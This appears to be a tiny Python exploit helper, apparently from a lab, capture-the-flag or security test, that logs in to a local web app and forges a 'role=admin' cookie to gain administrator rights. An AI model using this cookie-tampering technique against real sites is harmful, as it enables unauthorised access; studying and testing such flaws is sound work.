import requests


def become_admin(url):
    client = requests.Session()
    client.post(url + "/login")
    client.cookies.set("role", "admin", domain="127.0.0.1", path="/")
    return client
